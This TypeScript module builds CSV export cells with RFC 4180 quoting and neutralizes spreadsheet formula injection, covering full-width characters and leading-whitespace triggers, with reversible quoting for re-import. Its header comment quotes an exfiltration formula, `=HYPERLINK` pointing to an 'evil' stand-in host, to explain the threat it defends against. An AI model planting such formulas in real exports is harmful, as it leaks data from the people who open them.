/**
 * CSV cells for exports: RFC 4180 quoting plus spreadsheet formula neutralization.
 *
 * Every text field of a request came from an attacker. A spreadsheet that opens a CSV evaluates
 * a cell that begins with `=`, `+`, `-` or `@` (and some also after a leading tab or carriage
 * return), so `=HYPERLINK("http://evil/?"&A1)` would run on the investigator's machine. Such a
 * cell is written with a single quote in front; spreadsheets show the quote, never evaluate.
 * OWASP's list (= + - @, tab, CR) is widened two ways: a trigger after leading whitespace
 * (space, NBSP, U+3000, LF, tab, CR…), since some importers trim it first, and the full-width
 * forms `＝ ＋ － ＠`, which Japanese Excel reportedly reads as the ASCII ones. A cell that
 * merely starts with whitespace is left alone.
 *
 * The neutralization is reversible: a cell that already begins with quotes followed by one of
 * those characters gets one more quote too, so `unNeutralizeCell` (drop one leading quote when
 * quotes are followed by a trigger character) gives back exactly the original text. Sessionscope's
 * own CSV importer stores cells as read, quote included; apply `unNeutralizeCell` to a text field
 * of a re-imported export to get the original value (the round-trip test does).
 *
 * Before that, control and invisible characters are written as escapes (cellEscapes.ts), so a
 * cell cannot act on a terminal or hide text; unNeutralizeCell undoes those too.
 */

import { escapeCell, unEscapeCell } from './cellEscapes.js';

/** A formula's first character, ASCII or full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20). */
const FORMULA_START = '[=+\\-@\\uff1d\\uff0b\\uff0d\\uff20]';
/** What makes a cell a formula to some spreadsheet: a tab or CR, or a formula after whitespace. */
const TRIGGER = `(?:\\s*${FORMULA_START}|[\\t\\r])`;
/** A cell whose text, after any leading quotes, starts with a trigger is neutralized. */
const NEEDS_QUOTE_PREFIX = new RegExp(`^'*${TRIGGER}`);
/** The same cells with at least one quote: exactly what neutralizeFormula wrote. */
const NEUTRALIZED = new RegExp(`^'+${TRIGGER}`);
/** RFC 4180: a field with a quote, comma or line break is quoted; edge spaces too, so no reader trims them. */
const NEEDS_CSV_QUOTES = /[",\r\n]|^\s|\s$/;

export function neutralizeFormula(text: string): string {
  return NEEDS_QUOTE_PREFIX.test(text) ? `'${text}` : text;
}

/**
 * The text a csvCell came from, for every string: drops the neutralizing quote, then undoes
 * the escapes (named for its first job; the own-export importer calls it for every cell).
 */
export function unNeutralizeCell(text: string): string {
  return unEscapeCell(NEUTRALIZED.test(text) ? text.slice(1) : text);
}

/** RFC 4180 quoting of one field, without neutralization. */
export function quoteCsvField(text: string): string {
  return NEEDS_CSV_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** JSON text (headers, extra): its hidden characters are written as JSON escapes. */
export interface JsonCell {
  readonly json: string;
}

export function jsonCell(json: string | null): JsonCell | null {
  return json === null ? null : { json };
}

export type CsvValue = string | number | JsonCell | null;

/**
 * One cell. null (absent) is an empty field and '' is `""`, so the two stay apart. Numbers are
 * written as numbers: a JavaScript number's text cannot be a formula, and a negative latency
 * must stay a number. Text has its hidden characters escaped, then is neutralized and quoted.
 */
export function csvCell(value: CsvValue): string {
  if (value === null) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  const text = typeof value === 'string' ? escapeCell(value) : escapeCell(value.json, true);
  if (text === '') return '""';
  return quoteCsvField(neutralizeFormula(text));
}

/** One record, ended by CRLF as RFC 4180 says. */
export function csvRow(values: readonly CsvValue[]): string {
  return values.map(csvCell).join(',') + '\r\n';
}
